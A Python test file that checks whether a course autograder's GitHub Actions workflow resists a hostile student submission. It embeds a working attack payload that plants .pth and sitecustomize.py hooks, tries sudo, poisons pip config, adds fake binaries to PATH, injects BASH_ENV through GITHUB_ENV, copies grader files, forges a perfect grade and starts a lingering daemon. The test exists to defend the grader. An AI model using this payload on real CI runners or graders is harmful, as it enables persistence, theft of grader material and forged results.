"""The GitHub Actions template, played as GitHub's runner plays it, against a submission that attacks it.

The runner here is what a GitHub-hosted (or self-hosted) runner is: a non-root
user with passwordless sudo, its own Python (setup-python's, writable by that
user), each step a new ``bash --noprofile --norc -eo pipefail`` script, and
``$GITHUB_ENV``/``$GITHUB_PATH`` applied to the steps after the one that wrote
them.  Both jobs run on this one machine, which is harder than GitHub's two
fresh machines: anything the public checks leave behind is still here when
the grade job runs.

The submission is the relu bug with module-level code that, when the public
checks import it, plants a ``.pth`` file and a ``sitecustomize.py`` in every
site-packages it can reach (and tries ``sudo`` for the system's), a poisoned
pip configuration and cache, a PATH entry with fake ``python3``/``sha256sum``/
``curl``/``sudo``, environment-file entries, a forged report and a daemon
that would rewrite it.  The grade must be the grader's own score for this
submission, nothing planted may survive the public checks, and nothing of the
grader may leak.
"""

from __future__ import annotations

import json
import os
import pwd
import re
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml

from deploy import bundle
from deploy.github import template as gh_template

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("sudo") or not shutil.which("bwrap"),
                       reason="plays a runner user with sudo: needs root, sudo and bubblewrap here"),
]

ROOT = Path(__file__).resolve().parent.parent
USER = "mgrunner"
TOOLCACHE = Path("/opt/mg-toolcache")  # like /opt/hostedtoolcache: the runner's own Python, writable by it
MARKERS = ("/tmp/mg-pwned", "/tmp/mg-evil-bin", "/tmp/mg-stolen", "/tmp/mg-forged")

ATTACK = r'''
import os as _os, sys as _sys, subprocess as _sp
def _plant():
    run = "import os; open('/tmp/mg-pwned-' + str(os.getpid()), 'w').close(); os.system('cp -r /var/tmp/micrograd-* /tmp/mg-stolen 2>/dev/null')"
    places = [p for p in _sys.path if p.endswith(("site-packages", "dist-packages"))]
    for place in places + ["/usr/lib/python3/dist-packages", "/usr/local/lib/python3.11/dist-packages"]:
        for name, text in (("zz_mg.pth", run + "\n"), ("sitecustomize.py", run + "\n")):
            try:
                with open(_os.path.join(place, name), "w") as f:
                    f.write(text)
            except OSError:
                pass
    _sp.run(["sudo", "-n", "sh", "-c", "echo '" + run.replace("'", "") + "' > /usr/lib/python3/dist-packages/zz_mg.pth"],
            stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
    home = _os.path.expanduser("~")
    for folder, name, text in ((".config/pip", "pip.conf", "[global]\nindex-url = file:///tmp/mg-evil-index\n"),
                               (".cache/pip", "poison", "x")):
        try:
            _os.makedirs(_os.path.join(home, folder), exist_ok=True)
            with open(_os.path.join(home, folder, name), "w") as f:
                f.write(text)
        except OSError:
            pass
    try:
        _os.makedirs("/tmp/mg-evil-bin", exist_ok=True)
        for tool in ("python3", "sha256sum", "curl", "sudo", "env", "tar"):
            with open("/tmp/mg-evil-bin/" + tool, "w") as f:
                f.write("#!/bin/sh\ntouch /tmp/mg-pwned-fake-" + tool + "\n")
            _os.chmod("/tmp/mg-evil-bin/" + tool, 0o755)
    except OSError:
        pass
    for variable, text in (("GITHUB_PATH", "/tmp/mg-evil-bin\n"),
                           ("GITHUB_ENV", "PYTHONPATH=/tmp/mg-evil-py\nBASH_ENV=/tmp/mg-evil.sh\n")):
        try:
            with open(_os.environ[variable], "a") as f:
                f.write(text)
        except (KeyError, OSError):
            pass
    forged = {"score": 100, "max_score": 100, "parts": {}, "tests": []}
    for folder in (_os.path.join(_os.environ.get("RUNNER_TEMP", "/tmp"), "micrograd"), "/tmp/mg-forged"):
        try:
            _os.makedirs(folder, exist_ok=True)
            with open(_os.path.join(folder, "result.json"), "w") as f:
                f.write(__import__("json").dumps(forged))
        except OSError:
            pass
    if _os.fork() == 0:  # a daemon that outlives the step and keeps forging
        _os.setsid()
        for _ in range(600):
            try:
                with open("/tmp/mg-forged/daemon", "w") as f:
                    f.write("alive")
            except OSError:
                pass
            __import__("time").sleep(0.5)
        _os._exit(0)
_plant()
'''


def as_user(argv: list[str]) -> list[str]:
    entry = pwd.getpwnam(USER)
    return ["setpriv", f"--reuid={entry.pw_uid}", f"--regid={entry.pw_gid}", "--init-groups", *argv]


@pytest.fixture(scope="module")
def runner_user():
    """The runner's user (passwordless sudo) and its own Python, as GitHub's images have them."""
    try:
        pwd.getpwnam(USER)
    except KeyError:
        subprocess.run(["useradd", "--create-home", "--shell", "/bin/bash", USER], check=True)
    sudoers = Path(f"/etc/sudoers.d/{USER}")
    sudoers.write_text(f"{USER} ALL=(ALL) NOPASSWD:ALL\n")
    sudoers.chmod(0o440)
    entry = pwd.getpwnam(USER)
    if not (TOOLCACHE / "python" / "bin" / "python").exists():
        TOOLCACHE.mkdir(exist_ok=True)
        os.chown(TOOLCACHE, entry.pw_uid, entry.pw_gid)
        subprocess.run(as_user(["/usr/bin/python3", "-m", "venv", str(TOOLCACHE / "python")]), check=True)
    try:
        yield entry
    finally:
        sudoers.unlink(missing_ok=True)
        clean_markers()


def clean_markers() -> None:
    subprocess.run(["pkill", "-KILL", "-u", USER], check=False, stderr=subprocess.DEVNULL)
    for marker in MARKERS:
        for path in Path(marker).parent.glob(Path(marker).name + "*"):
            shutil.rmtree(path, ignore_errors=True) if path.is_dir() else path.unlink(missing_ok=True)
    for place in ("/usr/lib/python3/dist-packages", "/usr/local/lib/python3.11/dist-packages", str(TOOLCACHE)):
        for name in ("zz_mg.pth", "sitecustomize.py"):
            for path in Path(place).rglob(name):
                if "mg-pwned" in path.read_text(errors="replace"):  # only what the attack wrote
                    path.unlink()
    home = Path("/home") / USER
    for planted in (home / ".config/pip/pip.conf", home / ".cache/pip/poison"):
        planted.unlink(missing_ok=True)


def hostile_submission(tmp_path: Path) -> Path:
    """A student's repository: the template with the relu-bug engine that also attacks."""
    repository = tmp_path / "student-repo"
    sha = "0" * 64  # replaced by the caller's template
    gh_template.write_template(repository, sha, ci_grade=True)
    engine = (ROOT / "examples/submissions/relu_bug/micrograd_skeleton/engine.py").read_text()
    future = "from __future__ import annotations\n"
    (repository / "micrograd_skeleton" / "engine.py").write_text(future + ATTACK + "\n" + engine.replace(future, "", 1))
    for name in ("nn.py", "train.py"):
        shutil.copyfile(ROOT / "examples/submissions/relu_bug/micrograd_skeleton" / name,
                        repository / "micrograd_skeleton" / name)
    return repository


EXPRESSION = re.compile(r"\$\{\{\s*([a-z_]+)\.([A-Za-z_]+)\s*\}\}")


def substitute(text: str, context: dict[str, dict[str, str]]) -> str:
    return EXPRESSION.sub(lambda m: context.get(m.group(1), {}).get(m.group(2), ""), text)


def read_env_file(path: Path) -> dict[str, str]:
    """$GITHUB_ENV as the runner reads it: NAME=value lines and NAME<<DELIMITER blocks."""
    found, lines = {}, path.read_text().splitlines() if path.exists() else []
    i = 0
    while i < len(lines):
        line = lines[i]
        if "<<" in line and "=" not in line.split("<<")[0]:
            name, delimiter = line.split("<<", 1)
            j = lines.index(delimiter, i + 1)
            found[name] = "\n".join(lines[i + 1 : j])
            i = j
        elif "=" in line:
            name, value = line.split("=", 1)
            found[name] = value
        i += 1
    return found


def run_job(name: str, job: dict, *, source: Path, base: Path, context: dict, user) -> tuple[bool, Path]:
    """Run one job's steps in order, as the runner would; returns (succeeded, its artifacts folder)."""
    workspace, temp, artifacts = base / name / "workspace", base / name / "temp", base / name / "artifacts"
    for folder in (workspace, temp, artifacts):
        folder.mkdir(parents=True)
        os.chown(folder, user.pw_uid, user.pw_gid)
    files = {key: temp / f"_{key.lower()}" for key in ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT",
                                                       "GITHUB_STEP_SUMMARY")}
    for path in files.values():
        path.touch()
        os.chown(path, user.pw_uid, user.pw_gid)
    environment = {"HOME": user.pw_dir, "USER": USER, "PATH": "/usr/local/bin:/usr/bin:/bin",
                   "GITHUB_WORKSPACE": str(workspace), "RUNNER_TEMP": str(temp), "GITHUB_SHA": "abc1234",
                   "GITHUB_REPOSITORY": "ml101/alice-micrograd", "GITHUB_SERVER_URL": "https://github.com",
                   "GITHUB_RUN_ID": "1", "CI": "true", **{k: str(v) for k, v in files.items()}}
    context = {**context, "runner": {"temp": str(temp)}}
    failed = False
    for step in job["steps"]:
        if failed and "always()" not in str(step.get("if", "")):
            continue
        uses = step.get("uses", "")
        if uses.startswith("actions/checkout"):
            target = workspace / step.get("with", {}).get("path", "")
            shutil.copytree(source, target, dirs_exist_ok=True)
            subprocess.run(["chown", "-R", f"{user.pw_uid}:{user.pw_gid}", str(workspace)], check=True)
        elif uses.startswith("actions/setup-python"):
            environment["PATH"] = f"{TOOLCACHE / 'python' / 'bin'}:{environment['PATH']}"
        elif uses.startswith("actions/upload-artifact"):
            shutil.copytree(substitute(step["with"]["path"], context), artifacts, dirs_exist_ok=True)
        else:
            script = temp / f"step-{len(list(temp.glob('step-*')))}.sh"
            script.write_text(substitute(step["run"], context))
            os.chown(script, user.pw_uid, user.pw_gid)
            step_env = {**environment, **read_env_file(files["GITHUB_ENV"]),
                        **{k: substitute(str(v), context) for k, v in step.get("env", {}).items()}}
            prepended = [p for p in files["GITHUB_PATH"].read_text().splitlines() if p]
            step_env["PATH"] = ":".join([*reversed(prepended), step_env["PATH"]])
            done = subprocess.run(as_user(["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)]),
                                  cwd=workspace, env=step_env, capture_output=True, text=True, timeout=1200)
            print(f"--- {name}: {step.get('name')} -> {done.returncode}\n{done.stdout[-3000:]}{done.stderr[-3000:]}")
            failed = failed or done.returncode != 0
    return not failed, artifacts


def test_a_hostile_submission_cannot_forge_its_grade_through_the_workflow(runner_user, tmp_path):
    clean_markers()
    private = tmp_path / "private"
    bundle_path, digest = bundle.build(private)
    private.chmod(0o700)
    repository = hostile_submission(tmp_path)
    workflow_text = gh_template.workflow(digest, torch_index="")
    (repository / ".github/workflows/micrograd.yml").write_text(workflow_text)
    workflow = yaml.safe_load(workflow_text)
    context = {"vars": {"MICROGRAD_GRADER_URL": bundle_path.as_uri()},
               "secrets": {"MICROGRAD_GRADER_TOKEN": "t0ken", "MICROGRAD_GRADER_SECRET": "course-secret"},
               "github": {"token": "gh-token"}}
    base = Path(runner_user.pw_dir) / "work" / tmp_path.name  # like /home/runner/work
    shutil.rmtree(base, ignore_errors=True)
    base.mkdir(parents=True)
    try:
        check_the_workflow(workflow, workflow_text, repository, digest, base, context, runner_user)
    finally:
        shutil.rmtree(base, ignore_errors=True)


def check_the_workflow(workflow, workflow_text, repository, digest, base, context, runner_user):

    # Without the public checks' sandbox, the runner's own Python would take a .pth file: the attack is real.
    site = subprocess.run(as_user([str(TOOLCACHE / "python/bin/python"), "-c",
                                   "import site; print(site.getsitepackages()[0])"]),
                          capture_output=True, text=True, check=True).stdout.strip()
    assert subprocess.run(as_user(["test", "-w", site])).returncode == 0
    control = base / "control"
    shutil.copytree(repository, control)
    subprocess.run(["chown", "-R", f"{runner_user.pw_uid}:{runner_user.pw_gid}", str(control)], check=True)
    subprocess.run(as_user([str(TOOLCACHE / "python/bin/python"), "-c", "import micrograd_skeleton.engine"]),
                   cwd=control, env={"HOME": runner_user.pw_dir, "PATH": "/usr/bin:/bin"}, check=True, timeout=60)
    assert (Path(site) / "zz_mg.pth").exists() and Path("/tmp/mg-evil-bin/python3").exists(), \
        "run unsandboxed, the attack plants (so the checks below can fail)"
    clean_markers()

    public_ok, _ = run_job("public-checks", workflow["jobs"]["public-checks"], source=repository, base=base,
                           context=context, user=runner_user)
    assert not public_ok, "the public checks fail on the relu bug (feedback only)"
    time.sleep(1.5)  # the daemon, had it survived, would have written by now
    grade_ok, artifacts = run_job("grade", workflow["jobs"]["grade"], source=repository, base=base,
                                  context=context, user=runner_user)
    assert grade_ok

    # Nothing planted survived the public checks, nothing was stolen, nothing fake ran.
    survivors = [p for m in MARKERS for p in Path(m).parent.glob(Path(m).name + "*")]
    survivors += list(Path(site).glob("zz_mg.pth")) + list(Path(site).glob("sitecustomize.py"))
    survivors += list(Path("/usr/lib/python3/dist-packages").glob("zz_mg.pth"))
    survivors += [p for p in (Path(runner_user.pw_dir) / ".config/pip/pip.conf",) if p.exists()]
    assert survivors == []

    # The grade is the grader's own score for this very submission.
    result = json.loads((artifacts / "result.json").read_text())
    direct = subprocess.run([sys.executable, "-m", "autograder", "grade", str(repository), "--format", "json"],
                            cwd=ROOT, capture_output=True, text=True, check=True,
                            env={**os.environ, "MICROGRAD_GRADER_SECRET": "course-secret"})
    expected = json.loads(direct.stdout)
    assert {p: e["score"] for p, e in result["parts"].items()} == {p: e["score"] for p, e in
                                                                  expected["parts"].items()}
    assert result["parts"]["relu"]["score"] == 0 and result["score"] < 100
    provenance = json.loads((artifacts / "provenance.json").read_text())
    assert provenance["bundle_sha256"] == digest
    assert provenance["workflow_sha256"] == gh_template.workflow_digest(workflow_text)
    summary = (base / "grade" / "temp" / "_github_step_summary").read_text()
    assert "backward-not-underscore" in summary and f"{result['score']:g} / 100" in summary
